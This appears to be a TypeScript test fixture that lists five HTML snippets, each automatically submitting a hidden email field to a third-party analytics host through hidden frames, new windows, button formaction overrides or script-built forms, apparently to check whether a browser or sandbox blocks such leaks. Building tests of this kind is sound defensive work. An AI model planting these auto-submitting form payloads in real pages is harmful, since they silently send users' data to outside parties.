/** Forms that send what was entered to a third party. */
import type { Way } from '../way.ts';
import { FRAME_COMES_BACK, HOST, run } from './lib.ts';

const TARGET = `https://${HOST.hotjar}/form`;
const sent = { request: HOST.hotjar };

const FIELD = '<input type="hidden" name="email" value="a@b.example">';
const SINK = '<iframe name="sink" title="Sink"></iframe>';

export const forms: readonly Way[] = [
  {
    id: 'form-post-frame',
    title: 'a form that is sent into a hidden frame',
    html: `${SINK}<form id="f" method="post" action="${TARGET}" target="sink">${FIELD}</form>${run(`document.getElementById('f').submit()`)}`,
    works: sent,
    stays: FRAME_COMES_BACK,
  },
  {
    id: 'form-post-window',
    title: 'a form that is sent into a new window',
    html: `<form id="f" method="post" action="${TARGET}" target="_blank" rel="noopener">${FIELD}</form>${run(`document.getElementById('f').submit()`)}`,
    works: sent,
  },
  {
    id: 'form-request-submit',
    title: 'requestSubmit() by GET',
    html: `<form id="f" action="${TARGET}" target="_blank">${FIELD}</form>${run(`document.getElementById('f').requestSubmit()`)}`,
    works: sent,
  },
  {
    id: 'form-action-of-button',
    title: 'a button with an address of its own',
    html: `<form action="/own" method="post" target="_blank">${FIELD}<button id="s" formaction="${TARGET}">Send</button></form>${run(`document.getElementById('s').click()`)}`,
    works: sent,
  },
  {
    id: 'form-by-script',
    title: 'a form that a script makes',
    html: run(
      `var f=document.createElement('form');f.method='post';f.target='_blank';f.action='${TARGET}';document.body.append(f);f.submit()`,
    ),
    works: sent,
  },
];
